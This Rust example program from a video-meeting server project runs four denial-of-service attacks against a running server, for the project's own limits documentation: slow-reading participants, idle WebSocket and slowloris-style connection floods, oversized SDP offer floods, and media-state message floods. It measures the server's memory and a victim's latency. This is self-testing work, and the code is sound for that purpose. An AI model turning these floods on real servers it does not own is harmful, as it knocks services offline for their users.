//! The attacks of issue 14, findings 1–3, against a running server, measuring what a
//! victim notices: the server's memory (RSS, from /proc) and the victim's latency.
//! Used for the numbers in docs/server.md ("Limits"); runs against any build, since it
//! speaks only the protocol.
//!
//! ```text
//! cargo run --release -p lanmeet-server --example attack -- <attack> <host:port> <server pid>
//! ```
//!
//! Attacks: `slow-readers` (50 participants join and never read while the room chats),
//! `connections` (500 WebSockets that never join, 600 unfinished requests, 200 pre-join
//! frames of 1,000 KiB; then a victim from another address joins), `offers` (2,000
//! publish offers of 62 KB in one room; another room's offer is timed) and
//! `media-state` (20,000 media_state messages; a victim in the same room times its chat).
//! The server should run with `--http --chat-burst 1000 --chat-rate 1000` so that chat
//! itself is not what limits the first attack.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use futures_util::{SinkExt, StreamExt};
use lanmeet_proto::{ClientMessage, ServerMessage};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream};

type Ws = WebSocketStream<MaybeTlsStream<TcpStream>>;

fn rss_mb(pid: u32) -> f64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<f64>().ok())
        .map_or(f64::NAN, |kb| kb / 1024.0)
}

fn open_fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count())
}

/// A WebSocket from `source`, optionally with a tiny receive buffer.
async fn ws_from(addr: SocketAddr, source: &str, recv_buffer: Option<u32>) -> Option<Ws> {
    let socket = TcpSocket::new_v4().ok()?;
    if let Some(size) = recv_buffer {
        socket.set_recv_buffer_size(size).ok()?;
    }
    socket.bind(format!("{source}:0").parse().ok()?).ok()?;
    let stream = tokio::time::timeout(Duration::from_secs(2), socket.connect(addr))
        .await
        .ok()?
        .ok()?;
    let url = format!("ws://{addr}/ws");
    let upgrade = tokio_tungstenite::client_async(url, MaybeTlsStream::Plain(stream));
    let (ws, _) = tokio::time::timeout(Duration::from_secs(2), upgrade)
        .await
        .ok()?
        .ok()?;
    Some(ws)
}

async fn send(ws: &mut Ws, msg: &ClientMessage) -> bool {
    let json = serde_json::to_string(msg).expect("serializes");
    ws.send(Message::Text(json.into())).await.is_ok()
}

fn join_msg(room: &str, name: &str) -> ClientMessage {
    ClientMessage::Join {
        version: 1,
        room: room.into(),
        name: name.into(),
        resume: None,
        password: None,
    }
}

/// Next protocol message within `within`.
async fn next(ws: &mut Ws, within: Duration) -> Option<ServerMessage> {
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, ws.next()).await {
            Ok(Some(Ok(Message::Text(t)))) => return serde_json::from_str(t.as_str()).ok(),
            Ok(Some(Ok(_))) => continue,
            _ => return None,
        }
    }
}

/// Joins; returns the socket once `joined` arrived, and how long the join took.
async fn join(
    addr: SocketAddr,
    source: &str,
    room: &str,
    name: &str,
    within: Duration,
) -> Option<(Ws, Duration)> {
    let started = Instant::now();
    let fut = async {
        let mut ws = ws_from(addr, source, None).await?;
        send(&mut ws, &join_msg(room, name)).await;
        loop {
            match next(&mut ws, within).await? {
                ServerMessage::Joined { .. } => return Some(ws),
                ServerMessage::Error { .. } => return None,
                _ => {}
            }
        }
    };
    let ws = tokio::time::timeout(within, fut).await.ok()??;
    Some((ws, started.elapsed()))
}

/// The victim's round trip: sends a chat and waits for its echo, up to `within`.
async fn chat_round_trip(ws: &mut Ws, tag: &str, within: Duration) -> Option<Duration> {
    let started = Instant::now();
    let chat = ClientMessage::Chat {
        text: tag.into(),
        to: Vec::new(),
    };
    if !send(ws, &chat).await {
        return None;
    }
    let deadline = started + within;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match next(ws, left).await? {
            ServerMessage::Chat { message } if message.text == tag => {
                return Some(started.elapsed())
            }
            _ => {}
        }
    }
}

/// A publish offer padded to about `bytes` with attribute lines str0m ignores.
fn offer_sdp(bytes: usize) -> String {
    use str0m::media::{Direction, MediaKind};
    let crypto = Arc::new(str0m::crypto::from_feature_flags());
    let mut rtc = str0m::RtcConfig::new()
        .set_crypto_provider(crypto)
        .build(Instant::now());
    let candidate = str0m::Candidate::host("127.0.0.1:40000".parse().expect("addr"), "udp")
        .expect("host candidate");
    rtc.add_local_candidate(candidate);
    let mut change = rtc.sdp_api();
    change.add_media(MediaKind::Audio, Direction::SendOnly, None, None, None);
    change.add_media(MediaKind::Video, Direction::SendOnly, None, None, None);
    let (offer, _) = change.apply().expect("a change");
    let mut sdp = offer.to_sdp_string();
    while sdp.len() < bytes {
        sdp.push_str("a=x-padding:0123456789012345678901234567890123456789\r\n");
    }
    sdp
}

struct Probe {
    pid: u32,
    rss_start: f64,
    rss_peak: f64,
}

impl Probe {
    fn new(pid: u32) -> Self {
        let rss = rss_mb(pid);
        Probe {
            pid,
            rss_start: rss,
            rss_peak: rss,
        }
    }
    fn sample(&mut self) -> f64 {
        let rss = rss_mb(self.pid);
        self.rss_peak = self.rss_peak.max(rss);
        rss
    }
}

async fn slow_readers(addr: SocketAddr, pid: u32) {
    let mut probe = Probe::new(pid);
    let (mut victim, _) = join(addr, "127.0.0.2", "lab", "Victim", Duration::from_secs(5))
        .await
        .expect("victim joins");
    let mut readers = Vec::new();
    for i in 0..50 {
        if let Some(mut ws) = ws_from(addr, "127.0.0.1", Some(4096)).await {
            send(&mut ws, &join_msg("lab", &format!("Slow{i}"))).await;
            readers.push(ws);
        }
    }
    // A talker fills the room with 4 KB chat messages, 200 a second, for 30 s.
    let (talker, _) = join(addr, "127.0.0.3", "lab", "Talker", Duration::from_secs(5))
        .await
        .expect("talker joins");
    let stop = Arc::new(AtomicBool::new(false));
    let talking = {
        let stop = stop.clone();
        tokio::spawn(async move {
            let text = "x".repeat(4000);
            let chat = serde_json::to_string(&ClientMessage::Chat {
                text,
                to: Vec::new(),
            })
            .expect("serializes");
            let mut tick = tokio::time::interval(Duration::from_millis(5));
            let (mut tx, mut rx) = talker.split();
            tokio::spawn(async move { while let Some(Ok(_)) = rx.next().await {} });
            while !stop.load(Ordering::Relaxed) {
                tick.tick().await;
                if tx.send(Message::Text(chat.clone().into())).await.is_err() {
                    break;
                }
            }
        })
    };
    let started = Instant::now();
    let mut worst = Duration::ZERO;
    let mut lost = 0;
    let mut left = 0usize;
    let mut n = 0;
    while started.elapsed() < Duration::from_secs(30) {
        n += 1;
        match chat_round_trip(&mut victim, &format!("probe {n}"), Duration::from_secs(5)).await {
            Some(t) => worst = worst.max(t),
            None => lost += 1,
        }
        let rss = probe.sample();
        if n % 20 == 0 {
            println!(
                "t={:>4.1}s rss={rss:.0} MB",
                started.elapsed().as_secs_f64()
            );
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    stop.store(true, Ordering::Relaxed);
    let _ = talking.await;
    // Who is still there: count participant_left for the slow ones seen meanwhile.
    while let Some(msg) = next(&mut victim, Duration::from_millis(500)).await {
        if matches!(msg, ServerMessage::ParticipantLeft { .. }) {
            left += 1;
        }
    }
    let rss = probe.sample();
    println!(
        "slow-readers: rss start {:.0} MB, peak {:.0} MB, end {rss:.0} MB; victim chat round trip worst {worst:?}, {lost} probes lost; participant_left seen after the run {left}",
        probe.rss_start, probe.rss_peak
    );
    drop(readers);
}

async fn connections(addr: SocketAddr, pid: u32) {
    let mut probe = Probe::new(pid);
    let started = Instant::now();
    // 500 WebSockets that never join but answer pings (their reader answers them).
    let mut idle = Vec::new();
    let phase = Instant::now();
    for _ in 0..500 {
        if phase.elapsed() > Duration::from_secs(20) {
            break;
        }
        match ws_from(addr, "127.0.0.1", None).await {
            Some(ws) => {
                let (tx, mut rx) = ws.split();
                idle.push(tokio::spawn(async move {
                    let _tx = tx;
                    while let Some(Ok(_)) = rx.next().await {}
                }));
            }
            None => break,
        }
    }
    let ws_opened = idle.len();
    // 600 unfinished requests, one more header line every 5 s.
    println!(
        "t={:.1}s: {} idle WebSockets open",
        started.elapsed().as_secs_f64(),
        idle.len()
    );
    let mut slow = Vec::new();
    let phase = Instant::now();
    for _ in 0..600 {
        if phase.elapsed() > Duration::from_secs(20) {
            break;
        }
        let socket = TcpSocket::new_v4().expect("socket");
        socket
            .bind("127.0.0.1:0".parse().expect("addr"))
            .expect("bind");
        match tokio::time::timeout(Duration::from_secs(2), socket.connect(addr)).await {
            Ok(Ok(mut s)) => {
                if s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n").await.is_ok() {
                    slow.push(s);
                }
            }
            _ => break,
        }
    }
    let slow_opened = slow.len();
    let keep_slow = tokio::spawn(async move {
        loop {
            tokio::time::sleep(Duration::from_secs(5)).await;
            for s in &mut slow {
                let _ = s.write_all(b"X-a: b\r\n").await;
            }
        }
    });
    // 200 pre-join sockets each sending one 1,000 KiB frame.
    let frame = format!(r#"{{"type":"chat","text":"{}"}}"#, "a".repeat(1000 * 1024));
    println!(
        "t={:.1}s: {slow_opened} unfinished requests open",
        started.elapsed().as_secs_f64()
    );
    let mut big = Vec::new();
    let phase = Instant::now();
    for _ in 0..200 {
        if phase.elapsed() > Duration::from_secs(20) {
            break;
        }
        match ws_from(addr, "127.0.0.1", None).await {
            Some(mut ws) => {
                let _ = ws.send(Message::Text(frame.clone().into())).await;
                big.push(ws);
            }
            None => break,
        }
    }
    let rss_after_frames = probe.sample();
    let fds = open_fds(pid);
    println!(
        "t={:.1}s: {ws_opened} idle WebSockets, {slow_opened} unfinished requests, {} big-frame sockets opened; server fds {fds}, rss {rss_after_frames:.0} MB",
        started.elapsed().as_secs_f64(),
        big.len()
    );
    // A victim from another address joins now, and again after 15 s.
    for round in 0..2 {
        let joined = join(
            addr,
            "127.0.0.2",
            "lab",
            &format!("Victim{round}"),
            Duration::from_secs(10),
        )
        .await;
        match joined {
            Some((_, t)) => println!(
                "t={:.1}s: victim joined in {t:?}",
                started.elapsed().as_secs_f64()
            ),
            None => println!(
                "t={:.1}s: victim could NOT join within 10 s",
                started.elapsed().as_secs_f64()
            ),
        }
        let open = idle.iter().filter(|h| !h.is_finished()).count();
        println!(
            "t={:.1}s: idle WebSockets still open {open}, server fds {}, rss {:.0} MB",
            started.elapsed().as_secs_f64(),
            open_fds(pid),
            probe.sample()
        );
        if round == 0 {
            tokio::time::sleep(Duration::from_secs(15)).await;
        }
    }
    let end = probe.sample();
    println!(
        "connections: rss start {:.0} MB, peak {:.0} MB, end {end:.0} MB",
        probe.rss_start, probe.rss_peak
    );
    keep_slow.abort();
    drop(big);
}

async fn offers(addr: SocketAddr, pid: u32) {
    let mut probe = Probe::new(pid);
    let small = offer_sdp(0);
    let large = offer_sdp(62 * 1024);
    let (mut victim, _) = join(addr, "127.0.0.2", "b", "Victim", Duration::from_secs(5))
        .await
        .expect("victim joins");
    // Baseline: the victim's answer time when the server is quiet.
    let baseline = publish_round_trip(&mut victim, &small).await;
    let (attacker, _) = join(addr, "127.0.0.1", "a", "Mallory", Duration::from_secs(5))
        .await
        .expect("attacker joins");
    let (mut tx, mut rx) = attacker.split();
    let drain = tokio::spawn(async move { while let Some(Ok(_)) = rx.next().await {} });
    let offer = serde_json::to_string(&ClientMessage::PublishOffer {
        sdp: large,
        tracks: Vec::new(),
    })
    .expect("serializes");
    let started = Instant::now();
    for _ in 0..2000 {
        if tx.send(Message::Text(offer.clone().into())).await.is_err() {
            break;
        }
    }
    let sent_in = started.elapsed();
    // The victim's next offer (another room, possibly another worker).
    let (mut victim2, _) = join(addr, "127.0.0.2", "c", "Victim2", Duration::from_secs(5))
        .await
        .expect("second victim joins");
    let during_b = publish_round_trip(&mut victim, &small).await;
    let during_c = publish_round_trip(&mut victim2, &small).await;
    let rss_after = probe.sample();
    tokio::time::sleep(Duration::from_secs(3)).await;
    let later = probe.sample();
    println!(
        "offers: 2000 x {} KB sent in {sent_in:?}; victim answer baseline {baseline:?}, during the flood room b {during_b:?}, room c {during_c:?}; rss start {:.0} MB, right after {rss_after:.0} MB, peak {:.0} MB, 3 s later {later:.0} MB",
        offer.len() / 1024,
        probe.rss_start,
        probe.rss_peak
    );
    drain.abort();
}

async fn publish_round_trip(ws: &mut Ws, sdp: &str) -> Option<Duration> {
    let started = Instant::now();
    let offer = ClientMessage::PublishOffer {
        sdp: sdp.into(),
        tracks: Vec::new(),
    };
    send(ws, &offer).await;
    loop {
        match next(ws, Duration::from_secs(30)).await? {
            ServerMessage::PublishAnswer { .. } | ServerMessage::Error { .. } => {
                return Some(started.elapsed())
            }
            _ => {}
        }
    }
}

async fn media_state(addr: SocketAddr, pid: u32) {
    let mut probe = Probe::new(pid);
    let (mut victim, _) = join(addr, "127.0.0.2", "lab", "Victim", Duration::from_secs(5))
        .await
        .expect("victim joins");
    let mut others = Vec::new();
    for i in 0..8 {
        if let Some((ws, _)) = join(
            addr,
            "127.0.0.3",
            "lab",
            &format!("Other{i}"),
            Duration::from_secs(5),
        )
        .await
        {
            let (tx, mut rx) = ws.split();
            others.push(tokio::spawn(async move {
                let _tx = tx;
                while let Some(Ok(_)) = rx.next().await {}
            }));
        }
    }
    let baseline = chat_round_trip(&mut victim, "baseline", Duration::from_secs(10)).await;
    let (attacker, _) = join(addr, "127.0.0.1", "lab", "Mallory", Duration::from_secs(5))
        .await
        .expect("attacker joins");
    let (mut tx, mut rx) = attacker.split();
    let drain = tokio::spawn(async move { while let Some(Ok(_)) = rx.next().await {} });
    let started = Instant::now();
    for i in 0..20_000u32 {
        let msg = if i % 2 == 0 {
            ClientMessage::MediaState {
                camera: i % 4 == 0,
                microphone: true,
            }
        } else {
            ClientMessage::ScreenShare { active: i % 4 == 1 }
        };
        let json = serde_json::to_string(&msg).expect("serializes");
        if tx.send(Message::Text(json.into())).await.is_err() {
            break;
        }
    }
    let sent_in = started.elapsed();
    probe.sample();
    // The attacker's last message is a chat: the victim counts the updates it was sent
    // until that arrives, then times its own round trip.
    let done = serde_json::to_string(&ClientMessage::Chat {
        text: "flood done".into(),
        to: Vec::new(),
    })
    .expect("serializes");
    let _ = tx.send(Message::Text(done.into())).await;
    let mut updates = 0;
    let counting = Instant::now();
    while let Some(msg) = next(&mut victim, Duration::from_secs(30)).await {
        match msg {
            ServerMessage::ParticipantUpdated { .. } => updates += 1,
            ServerMessage::Chat { message } if message.text == "flood done" => break,
            _ => {}
        }
    }
    let counted_in = counting.elapsed();
    let during = chat_round_trip(&mut victim, "during", Duration::from_secs(30)).await;
    probe.sample();
    println!(
        "media-state: 20000 media_state/screen_share sent in {sent_in:?}; the victim was sent {updates} participant_updated (read in {counted_in:?}); victim chat round trip baseline {baseline:?}, right after the flood {during:?}; rss start {:.0} MB, peak {:.0} MB",
        probe.rss_start, probe.rss_peak
    );
    drain.abort();
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    let usage =
        "usage: attack <slow-readers|connections|offers|media-state> <host:port> <server pid>";
    let (Some(kind), Some(addr), Some(pid)) = (args.get(1), args.get(2), args.get(3)) else {
        eprintln!("{usage}");
        std::process::exit(2);
    };
    let addr: SocketAddr = addr.parse().expect("host:port");
    let pid: u32 = pid.parse().expect("pid");
    match kind.as_str() {
        "slow-readers" => slow_readers(addr, pid).await,
        "connections" => connections(addr, pid).await,
        "offers" => offers(addr, pid).await,
        "media-state" => media_state(addr, pid).await,
        _ => {
            eprintln!("{usage}");
            std::process::exit(2);
        }
    }
}
